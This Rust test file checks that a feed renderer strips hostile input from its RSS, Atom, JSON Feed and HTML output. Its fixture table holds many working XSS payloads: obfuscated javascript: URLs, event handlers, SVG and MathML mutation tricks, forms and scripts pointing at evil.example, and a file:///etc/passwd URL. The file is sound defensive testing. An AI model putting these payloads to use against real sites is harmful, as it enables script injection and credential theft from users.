//! Hostile input against every published format: a table of attacks on summaries, titles,
//! names, categories and URL fields, each rendered alone and all together in RSS, Atom, JSON
//! Feed and HTML.
//!
//! Every output is read back the way a consumer reads it (XML unescaped, JSON decoded, HTML
//! tokenized with its entities decoded) and checked field by field: HTML fields hold only
//! sanitized markup with absolute `http(s)` URLs, plain-text fields cannot open markup, URL
//! fields are absolute `http(s)`, no control character is left anywhere, and none of a row's
//! `gone` strings survives in anything a browser or reader would act on. The checks must not
//! reuse the sanitizer or escaping code they test.

use super::test_support::{
    HtmlKind, XmlNode, assert_no_control_characters, assert_plain_text, assert_safe_html,
    assert_web_url, json_strings, parse_xml, sample_channel, time, url,
};
use super::{Format, render};
use crate::model::{Source, Story, StoryId};

/// One attack.
struct Hostile {
    /// What the row tries.
    name: &'static str,
    /// The story's title.
    title: &'static str,
    /// The story's summary (HTML).
    summary: &'static str,
    /// Changes to other fields of the story (author, categories, links, sources).
    edit: fn(&mut Story),
    /// Lowercase strings that must not survive in any output's markup or URLs (decoded), nor,
    /// when they start with `<`, in its raw bytes.
    gone: &'static [&'static str],
    /// Strings that must still occur in the decoded feeds: the attack goes, the story stays.
    kept: &'static [&'static str],
}

fn unchanged(_: &mut Story) {}

const HOSTILE: &[Hostile] = &[
    Hostile {
        name: "script elements",
        title: "Scripts",
        summary: concat!(
            "<p>kept-1</p><script>alert(1)</script>",
            "<SCRIPT SRC=\"https://evil.example/x.js\"></SCRIPT>",
            "<script type=\"module\">import('https://evil.example/m.js')</script>",
        ),
        edit: unchanged,
        gone: &["<script", "alert(", "x.js", "m.js"],
        kept: &["kept-1"],
    },
    Hostile {
        name: "split script tag",
        title: "Split",
        summary: "<p>kept-2</p><scr<script>ipt>alert(1)</scr</script>ipt>",
        edit: unchanged,
        gone: &["<script", "<scr", "</scr"],
        kept: &["kept-2"],
    },
    Hostile {
        name: "style elements, style attributes and CSS expression()",
        title: "Styles",
        summary: concat!(
            "<style>body{background:url(\"javascript:alert(1)\")}</style>",
            "<p style=\"background:url(javascript:alert(1))\">kept-3</p>",
            "<div style=\"width: expression(alert(1))\">x</div>",
            "<STYLE>@import \"https://evil.example/x.css\";</STYLE>",
            "<span style=\"behavior:url(x.htc);-moz-binding:url(x.xml#xss)\">y</span>",
        ),
        edit: unchanged,
        gone: &[
            "<style",
            "style=",
            "expression(",
            "javascript:",
            "x.css",
            "@import",
            "behavior",
            "binding",
        ],
        kept: &["kept-3"],
    },
    Hostile {
        name: "iframe, frame, object, embed, applet",
        title: "Frames",
        summary: concat!(
            "<iframe src=\"https://evil.example/frame\">framed</iframe>",
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\"></iframe>",
            "<frameset><frame src=\"https://evil.example/f\"></frameset>",
            "<object data=\"https://evil.example/x.swf\"><param name=x value=y>objected</object>",
            "<embed src=\"https://evil.example/x.swf\">",
            "<applet code=\"X.class\">applet</applet>",
            "<portal src=\"https://evil.example/p\"></portal>",
            "<p>kept-4</p>",
        ),
        edit: unchanged,
        gone: &[
            "<iframe",
            "framed",
            "srcdoc",
            "<frame",
            "<object",
            "objected",
            "<embed",
            "x.swf",
            "<applet",
            "<param",
            "<portal",
            "evil.example",
        ],
        kept: &["kept-4"],
    },
    Hostile {
        name: "forms",
        title: "Forms",
        summary: concat!(
            "<form action=\"https://evil.example/steal\" method=post>",
            "<input name=q value=\"v\" autofocus onfocus=\"alert(1)\">",
            "<button formaction=\"https://evil.example/b\">go</button>",
            "<select><option>o</option></select><textarea>t</textarea></form>",
            "<isindex action=\"https://evil.example/i\"><p>kept-5</p>",
        ),
        edit: unchanged,
        gone: &[
            "<form",
            "<input",
            "<button",
            "formaction",
            "steal",
            "<select",
            "<textarea",
            "<isindex",
            "autofocus",
            "onfocus",
        ],
        kept: &["kept-5"],
    },
    Hostile {
        name: "base, meta and link elements",
        title: "Base",
        summary: concat!(
            "<base href=\"https://evil.example/\">",
            "<meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">",
            "<link rel=\"stylesheet\" href=\"https://evil.example/x.css\">",
            "<p>kept-6 <a href=\"relative\">rel</a></p>",
        ),
        edit: unchanged,
        gone: &[
            "<base",
            "<meta",
            "http-equiv",
            "refresh",
            "<link",
            "evil.example",
        ],
        kept: &["kept-6", "https://story.example/row/relative"],
    },
    Hostile {
        name: "event handlers",
        title: "Handlers",
        summary: concat!(
            "<img src=\"https://img.example/a.png\" onerror=\"alert(1)\">",
            "<p ONMOUSEOVER=\"alert(1)\">kept-7</p>",
            "<a href=\"https://ok.example/\" onclick=\"alert(1)\">ok</a>",
            "<body onload=alert(1)><details open ontoggle=alert(1)>d</details>",
            "<div onpointerenter = \"alert(1)\">d</div><b/onfocus=alert(1)>b</b>",
        ),
        edit: unchanged,
        gone: &[
            "onerror",
            "onmouseover",
            "onclick",
            "onload",
            "ontoggle",
            "onpointerenter",
            "onfocus",
            "alert(",
        ],
        kept: &["kept-7", "https://img.example/a.png", "https://ok.example/"],
    },
    Hostile {
        name: "javascript: URLs in every disguise",
        title: "Javascript",
        summary: concat!(
            "<a href=\"javascript:alert(1)\">a</a>",
            "<a href=\"JaVaScRiPt:alert(1)\">b</a>",
            "<a href=\"  javascript:alert(1)\">c</a>",
            "<a href=\"java&#115;cript:alert(1)\">d</a>",
            "<a href=\"java&#x09;script:alert(1)\">e</a>",
            "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">f</a>",
            "<a href=\"jav&#x0A;ascript:alert(1)\">g</a>",
            "<a href=\"javascript&colon;alert(1)\">h</a>",
            "<a href=\"\u{1}javascript:alert(1)\">i</a>",
            "<a href=javascript:alert(1)>j</a>",
            "<img src=\"javascript:alert(1)\"><p>kept-8</p>",
        ),
        edit: unchanged,
        gone: &["javascript", "alert(", "&#"],
        kept: &["kept-8"],
    },
    Hostile {
        name: "data: and vbscript: URLs",
        title: "Data",
        summary: concat!(
            "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">a</a>",
            "<img src=\"DATA:image/svg+xml,&lt;svg onload=alert(1)&gt;\">",
            "<a href=\"vbscript:msgbox(1)\">b</a><a href=\"VBScript:msgbox(1)\">c</a>",
            "<a href=\" data:,x\">d</a><p>kept-9</p>",
        ),
        edit: unchanged,
        gone: &[
            "data:",
            "vbscript",
            "msgbox",
            "base64",
            "phnjcmlwd",
            "onload",
        ],
        kept: &["kept-9"],
    },
    Hostile {
        name: "SVG",
        title: "Svg",
        summary: concat!(
            "<svg onload=\"alert(1)\"><circle r=\"1\"/></svg>",
            "<svg><a xlink:href=\"javascript:alert(1)\"><text x=\"0\" y=\"0\">svg link</text></a></svg>",
            "<svg><script>alert(1)</script></svg><svg/onload=alert(1)>",
            "<svg><foreignObject><iframe src=\"https://evil.example/\"></iframe></foreignObject></svg>",
            "<svg><animate attributeName=href values=javascript:alert(1) /></svg>",
            "<p>kept-10</p>",
        ),
        edit: unchanged,
        gone: &[
            "<svg",
            "xlink",
            "javascript:",
            "alert(",
            "<iframe",
            "evil.example",
            "svg link",
            "<animate",
            "foreignobject",
        ],
        kept: &["kept-10"],
    },
    Hostile {
        name: "MathML",
        title: "Math",
        summary: concat!(
            "<p>kept-11</p><math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style>",
            "</mglyph></table></mtext></math>",
            "<math href=\"javascript:alert(1)\">m</math>",
            "<math><maction actiontype=\"statusline\" xlink:href=\"javascript:alert(1)\">",
            "x</maction></math>",
            "<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
            // An unclosed <math> swallows the rest: that is lost, which is the safe outcome.
            "<p>lost-11</p>",
        ),
        edit: unchanged,
        gone: &[
            "<math",
            "<mglyph",
            "<maction",
            "onerror",
            "javascript:",
            "alert(",
            "<form",
            "xlink",
        ],
        kept: &["kept-11"],
    },
    Hostile {
        name: "comments, conditional comments and CDATA",
        title: "Comments",
        summary: concat!(
            "<!--<script>alert(1)</script>-->",
            "<!--[if IE]><script>alert(1)</script><![endif]-->",
            "<p>kept-12 ]]> and ]]&gt; and <![CDATA[ cdata ]]></p>",
            "<!--> <img src=x onerror=alert(1)> -->",
        ),
        edit: unchanged,
        gone: &["<!--", "<script", "alert(", "<![cdata", "]]>", "[endif]"],
        kept: &["kept-12"],
    },
    Hostile {
        name: "raw-text elements that re-parse differently",
        title: "Mutation",
        summary: concat!(
            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\"></noscript>",
            "<template><img src=x onerror=alert(1)></template>",
            "<xmp><img src=x onerror=alert(1)></xmp>",
            "<noembed><img src=x onerror=alert(1)></noembed>",
            "<noframes><img src=x onerror=alert(1)></noframes>",
            "<title><img src=x onerror=alert(1)></title>",
            "<textarea><img src=x onerror=alert(1)></textarea>",
            "<p>kept-13</p>",
        ),
        edit: unchanged,
        gone: &[
            "onerror",
            "alert(",
            "<noscript",
            "<template",
            "<xmp",
            "<noembed",
            "<noframes",
            "<title",
            "<textarea",
        ],
        kept: &["kept-13"],
    },
    Hostile {
        name: "control characters and non-characters",
        title: "Ctl\u{0}\u{1}\u{8}\u{b}\u{c}\u{1b}\u{7f}\u{85}\u{9f}\u{fffe}\u{ffff} title",
        summary: "<p>kept\u{0}-14\u{1}\u{8}\u{b}\u{c}\u{1b}\u{fffe}\u{ffff}</p>",
        edit: |story| {
            story.author = Some("Mal\u{1b}lory\u{0}\u{fffe}".to_owned());
            story.categories = vec!["x\u{0}y".to_owned(), "\u{1b}".to_owned()];
            story.sources[0].feed_name = "Feed\u{0}\u{ffff} name".to_owned();
        },
        gone: &[
            "\u{0}", "\u{1}", "\u{8}", "\u{b}", "\u{c}", "\u{1b}", "\u{fffe}", "\u{ffff}", "&#",
        ],
        kept: &["kept-14", "ctl title", "mal lory", "x y", "feed name"],
    },
    Hostile {
        name: "relative URLs resolve against the story link",
        title: "Relative",
        summary: concat!(
            "<p>kept-15 <a href=\"/abs\">a</a> <a href=\"rel/x?y=1&amp;z=2\">b</a> ",
            "<img src=\"../img.png\" alt=\"i\"> <a href=\"//cdn.example/x\">c</a> ",
            "<a href=\"#frag\">f</a> <a href=\"mailto:a@example.org\">m</a></p>",
        ),
        edit: unchanged,
        gone: &["href=\"/", "src=\"../", "href=\"#", "href=\"rel/"],
        kept: &[
            "kept-15",
            "href=\"https://story.example/abs\"",
            "href=\"https://story.example/row/rel/x?y=1&amp;z=2\"",
            "src=\"https://story.example/img.png\"",
            "href=\"https://cdn.example/x\"",
            "href=\"https://story.example/row/15#frag\"",
            "href=\"mailto:a@example.org\"",
        ],
    },
    Hostile {
        name: "link targets and rel",
        title: "Targets",
        summary: "<a href=\"https://ok.example/\" target=\"_blank\" rel=\"opener\">kept-16</a>",
        edit: unchanged,
        gone: &["target", "\"opener\"", "_blank"],
        kept: &["kept-16", "rel=\"noopener noreferrer\""],
    },
    Hostile {
        name: "entity-encoded markup stays text",
        title: "Encoded",
        summary: "&lt;script&gt;alert(1)&lt;/script&gt; kept-17 &lt;img src=x onerror=alert(1)&gt;",
        edit: unchanged,
        gone: &["<script", "<img"],
        kept: &["kept-17", "&lt;script&gt;"],
    },
    Hostile {
        name: "hostile URL fields",
        title: "Urls",
        summary: "<p>kept-18 <a href=\"rel\">r</a></p>",
        edit: |story| {
            story.link = Some(url("javascript:alert(1)"));
            story.comments = Some(url("data:text/html,<script>alert(1)</script>"));
            story.sources = vec![
                Source {
                    feed_name: "First".to_owned(),
                    feed_url: url("https://first.example/feed"),
                    site_link: Some(url("javascript:alert(2)")),
                    entry_link: Some(url("vbscript:msgbox(1)")),
                },
                Source {
                    feed_name: "Second".to_owned(),
                    feed_url: url("file:///etc/passwd"),
                    site_link: None,
                    entry_link: None,
                },
            ];
        },
        gone: &[
            "javascript",
            "vbscript",
            "data:",
            "alert(",
            "msgbox",
            "file:",
            "passwd",
        ],
        kept: &["kept-18", "https://first.example/feed"],
    },
    Hostile {
        name: "markup in titles, authors, categories and source names",
        title: "<script>alert(1)</script><img src=x onerror=alert(1)><b>bold</b> <!-- c --> <?php ?>",
        summary: "<p>kept-19</p>",
        edit: |story| {
            story.author = Some("<i>Mal</i>lory <script>".to_owned());
            story.categories = vec!["<svg onload=alert(1)>".to_owned(), "ok".to_owned()];
            story.sources[0].feed_name = "Evil <feed> </title><script>".to_owned();
        },
        gone: &[
            "<script", "<img", "<b>", "<i>", "<svg", "<feed", "</title", "<!--", "<?php",
        ],
        kept: &["kept-19", "bold"],
    },
    Hostile {
        name: "XML and JSON breakers in plain text",
        title: "]]> <![CDATA[ x ]]> & &amp; </title> \"}], \"items\": [{\"id\": \"x",
        summary: "<p>kept-20</p>",
        edit: |story| {
            story.categories = vec!["]]>".to_owned(), "\"}".to_owned()];
            story.author = Some("\\\" ]]> &lt;".to_owned());
        },
        gone: &["<![cdata", "</title"],
        kept: &["kept-20", "\"items\": [{\"id\""],
    },
];

/// The story a row describes: a plain story with the row's title and summary, linked at
/// `https://story.example/row/<n>`, then the row's edits.
fn story(index: usize, row: &Hostile) -> Story {
    let number = index + 1;
    let mut story = Story {
        id: StoryId(i64::try_from(number).expect("small")),
        title: row.title.to_owned(),
        link: Some(url(&format!("https://story.example/row/{number}"))),
        summary: Some(row.summary.to_owned()),
        author: None,
        published: time("2026-11-28T09:00:00Z"),
        updated: time("2026-11-28T10:00:00Z"),
        comments: Some(url(&format!("https://talk.example/{number}"))),
        categories: vec!["security".to_owned()],
        sources: vec![Source {
            feed_name: "Row feed".to_owned(),
            feed_url: url("https://feed.example/rss"),
            site_link: Some(url("https://feed.example/")),
            entry_link: Some(url(&format!("https://feed.example/{number}"))),
        }],
        members: Vec::new(),
    };
    (row.edit)(&mut story);
    story
}

/// Every element an RSS document of frontpage's may have.
const RSS_ELEMENTS: &[&str] = &[
    "rss",
    "channel",
    "title",
    "link",
    "description",
    "lastBuildDate",
    "generator",
    "item",
    "category",
    "comments",
    "guid",
    "pubDate",
    "source",
    "creator",
];

/// Every element an Atom document of frontpage's may have.
const ATOM_ELEMENTS: &[&str] = &[
    "feed",
    "title",
    "id",
    "updated",
    "generator",
    "link",
    "subtitle",
    "entry",
    "published",
    "author",
    "name",
    "category",
    "source",
    "summary",
    "content",
];

/// How a consumer reads a field.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Field {
    /// HTML to render (RSS description, Atom html text, JSON `content_html`).
    Html,
    /// Plain text (titles, names, categories).
    Plain,
    /// A URL to follow.
    Url,
    /// Anything else (dates, versions, flags, media types).
    Other,
}

/// Every decoded string of an RSS document with how a reader treats it.
fn rss_fields(root: &XmlNode) -> Vec<(Field, String, String)> {
    let mut fields = Vec::new();
    for node in root.descendants() {
        let atom = node.namespace.as_deref() == Some("http://www.w3.org/2005/Atom");
        let kind = match node.name.as_str() {
            "description" => Field::Html,
            "link" if !atom => Field::Url,
            "guid" | "comments" => Field::Url,
            "title" | "category" | "creator" | "source" | "generator" => Field::Plain,
            _ => Field::Other,
        };
        if !node.text.trim().is_empty() || kind != Field::Other {
            fields.push((kind, format!("rss <{}>", node.name), node.text.clone()));
        }
        for (key, value) in &node.attributes {
            let kind = match key.as_str() {
                "href" | "url" => Field::Url,
                _ => Field::Other,
            };
            fields.push((kind, format!("rss <{} {key}>", node.name), value.clone()));
        }
    }
    fields
}

/// Every decoded string of an Atom document with how a reader treats it.
fn atom_fields(root: &XmlNode) -> Vec<(Field, String, String)> {
    let mut fields = Vec::new();
    for node in root.descendants() {
        let kind = match node.name.as_str() {
            "summary" | "content" | "title" | "subtitle" | "rights" => {
                match node.attribute("type").unwrap_or("text") {
                    "html" => Field::Html,
                    "text" => Field::Plain,
                    other => panic!("unexpected Atom text type {other}"),
                }
            }
            "id" | "uri" | "icon" | "logo" => Field::Url,
            "name" | "generator" => Field::Plain,
            _ => Field::Other,
        };
        if !node.text.trim().is_empty() || kind != Field::Other {
            fields.push((kind, format!("atom <{}>", node.name), node.text.clone()));
        }
        for (key, value) in &node.attributes {
            let kind = match (node.name.as_str(), key.as_str()) {
                (_, "href" | "uri") => Field::Url,
                ("category", "term" | "label") => Field::Plain,
                _ => Field::Other,
            };
            fields.push((kind, format!("atom <{} {key}>", node.name), value.clone()));
        }
    }
    fields
}

/// Every string of a JSON Feed with how a reader treats it.
fn json_fields(bytes: &[u8]) -> Vec<(Field, String, String)> {
    let value: serde_json::Value = serde_json::from_slice(bytes).expect("JSON Feed parses");
    json_strings(&value)
        .into_iter()
        .map(|(key, text)| {
            let kind = match key.as_str() {
                "content_html" => Field::Html,
                "title" | "name" | "tags" | "description" | "content_text" | "summary" => {
                    Field::Plain
                }
                "id" | "url" | "home_page_url" | "feed_url" | "external_url" => Field::Url,
                _ => Field::Other,
            };
            (kind, format!("json {key}"), text)
        })
        .collect()
}

/// What a check found in one document: every decoded string, and the active part (markup of
/// HTML fields and URL fields), lowercased.
#[derive(Default)]
struct Decoded {
    strings: Vec<String>,
    active: Vec<String>,
}

/// Checks each field by its kind and collects what [`Decoded`] holds.
fn check_fields(fields: &[(Field, String, String)], row: &str) -> Decoded {
    let mut decoded = Decoded::default();
    for (kind, context, text) in fields {
        let context = format!("{row}: {context}");
        assert_no_control_characters(text, &context);
        match kind {
            Field::Html => {
                decoded
                    .active
                    .extend(assert_safe_html(text, HtmlKind::Fragment, &context))
            }
            Field::Plain | Field::Other => assert_plain_text(text, &context),
            Field::Url => {
                assert_web_url(text, &context);
                decoded.active.push(text.to_lowercase());
            }
        }
        decoded.strings.push(text.to_lowercase());
    }
    decoded
}

/// Renders `stories` in every format and checks every field by its kind; then asserts that no
/// `gone` string is active anywhere (in the markup of an HTML field or the page's body, or in
/// a URL field), that the XML documents have only their own elements, that no `gone` markup
/// (`<…`) occurs even in the raw bytes of the JSON Feed or the page's body, and that every
/// `kept` string survives in the decoded feeds.
///
/// Text is not checked against `gone`: a title that reads `‹script>alert(1)` or a summary that
/// shows `&lt;img onerror=…&gt;` is inert, and the field checks already prove it cannot
/// become markup.
fn check_all_formats(stories: &[Story], gone: &[&str], kept: &[&str], row: &str) {
    let channel = sample_channel();
    let n_items = stories.len();

    let rss_bytes = render(Format::Rss, &channel, stories);
    let rss = parse_xml(&rss_bytes);
    assert_eq!(
        rss.one("channel").all("item").count(),
        n_items,
        "{row}: rss items"
    );
    let rss_decoded = check_fields(&rss_fields(&rss), &format!("{row} (rss)"));

    let atom_bytes = render(Format::Atom, &channel, stories);
    let atom = parse_xml(&atom_bytes);
    assert_eq!(atom.all("entry").count(), n_items, "{row}: atom entries");
    let atom_decoded = check_fields(&atom_fields(&atom), &format!("{row} (atom)"));

    let json_bytes = render(Format::Json, &channel, stories);
    let json: serde_json::Value = serde_json::from_slice(&json_bytes).expect("JSON Feed");
    assert_eq!(
        json["items"].as_array().map(Vec::len),
        Some(n_items),
        "{row}: json items"
    );
    let json_decoded = check_fields(&json_fields(&json_bytes), &format!("{row} (json)"));

    let html = String::from_utf8(render(Format::Html, &channel, stories)).expect("UTF-8 page");
    let page_markup = assert_safe_html(&html, HtmlKind::Page, &format!("{row} (html)"));
    assert_no_control_characters(&html, row);
    assert_eq!(html.matches("<li ").count(), n_items, "{row}: html items");
    // The page's head is frontpage's own (meta, link, title, style); stories live in the body.
    let body = &html[html.find("<body>").expect("a body")..];
    let body_markup: Vec<String> = page_markup
        .iter()
        .skip_while(|tag| tag.as_str() != "<body>")
        .cloned()
        .collect();

    // In XML, injected markup would be an element: only the formats' own ones may occur.
    for (format, root, vocabulary) in [("rss", &rss, RSS_ELEMENTS), ("atom", &atom, ATOM_ELEMENTS)]
    {
        for node in root.descendants() {
            assert!(
                vocabulary.contains(&node.name.as_str()),
                "{row}: element <{}> in the {format} output",
                node.name
            );
        }
    }
    // JSON and the page's body hold no markup of their own to confuse with an attack.
    let raw = [
        ("json", String::from_utf8_lossy(&json_bytes).to_lowercase()),
        ("html", body.to_lowercase()),
    ];
    let active = [
        ("rss", &rss_decoded.active),
        ("atom", &atom_decoded.active),
        ("json", &json_decoded.active),
        ("html", &body_markup),
    ];
    for needle in gone {
        if needle.starts_with('<') {
            for (format, text) in &raw {
                assert!(
                    !text.contains(needle),
                    "{row}: {needle:?} survived in the {format} output:\n{text}"
                );
            }
        }
        for (format, strings) in &active {
            if let Some(found) = strings.iter().find(|text| text.contains(needle)) {
                panic!("{row}: {needle:?} survived in the {format} output: {found:?}");
            }
        }
    }
    let decoded = [
        ("rss", &rss_decoded.strings),
        ("atom", &atom_decoded.strings),
        ("json", &json_decoded.strings),
    ];
    for needle in kept {
        let needle = needle.to_lowercase();
        for (format, strings) in &decoded {
            assert!(
                strings.iter().any(|text| text.contains(&needle)),
                "{row}: {needle:?} was lost in the {format} output: {strings:#?}"
            );
        }
    }
}

#[test]
fn nothing_hostile_survives_in_any_format() {
    for (index, row) in HOSTILE.iter().enumerate() {
        check_all_formats(&[story(index, row)], row.gone, row.kept, row.name);
    }
}

/// All rows in one document: every item comes out exactly as it does alone, so no row's
/// attack reaches into its neighbours.
#[test]
fn all_hostile_stories_together_stay_separate_items() {
    let stories: Vec<Story> = HOSTILE
        .iter()
        .enumerate()
        .map(|(index, row)| story(index, row))
        .collect();
    let kept: Vec<&str> = HOSTILE
        .iter()
        .flat_map(|row| row.kept.iter().copied())
        .collect();
    check_all_formats(&stories, &[], &kept, "all rows");

    let channel = sample_channel();
    let items = |stories: &[Story]| {
        let rss = parse_xml(&render(Format::Rss, &channel, stories));
        let atom = parse_xml(&render(Format::Atom, &channel, stories));
        let json: serde_json::Value =
            serde_json::from_slice(&render(Format::Json, &channel, stories)).expect("JSON");
        let html = String::from_utf8(render(Format::Html, &channel, stories)).expect("UTF-8");
        let html_items: Vec<String> = html
            .split("<li ")
            .skip(1)
            .map(|item| item[..item.find("</li>").expect("item end")].to_owned())
            .collect();
        (
            rss.one("channel")
                .all("item")
                .map(|item| format!("{item:?}"))
                .collect::<Vec<_>>(),
            atom.all("entry")
                .map(|entry| format!("{entry:?}"))
                .collect::<Vec<_>>(),
            json["items"].as_array().expect("items").clone(),
            html_items,
        )
    };
    let together = items(&stories);
    for (index, story) in stories.iter().enumerate() {
        let alone = items(std::slice::from_ref(story));
        let row = HOSTILE[index].name;
        assert_eq!(together.0[index], alone.0[0], "{row}: rss item");
        assert_eq!(together.1[index], alone.1[0], "{row}: atom entry");
        assert_eq!(together.2[index], alone.2[0], "{row}: json item");
        assert_eq!(together.3[index], alone.3[0], "{row}: html item");
    }
}

#[test]
fn hostile_tag_is_neither_a_path_nor_markup() {
    let channel = crate::model::Channel {
        tag: Some("../<script>\"x".to_owned()),
        ..sample_channel()
    };
    let stories = [story(0, &HOSTILE[0])];
    let html = String::from_utf8(render(Format::Html, &channel, &stories)).expect("UTF-8");
    assert_safe_html(&html, HtmlKind::Page, "hostile tag");
    assert!(!html.contains("../<"), "{html}");
    let atom = parse_xml(&render(Format::Atom, &channel, &stories));
    let id = &atom.one("id").text;
    assert_web_url(id, "hostile tag atom id");
    assert!(id.starts_with("https://front.example.org/tag/"), "{id}");
    let json: serde_json::Value =
        serde_json::from_slice(&render(Format::Json, &channel, &stories)).expect("JSON");
    for key in ["home_page_url", "feed_url"] {
        let value = json[key].as_str().expect("a URL");
        assert_web_url(value, key);
        assert!(
            value.starts_with("https://front.example.org/tag/"),
            "{value}"
        );
    }
}
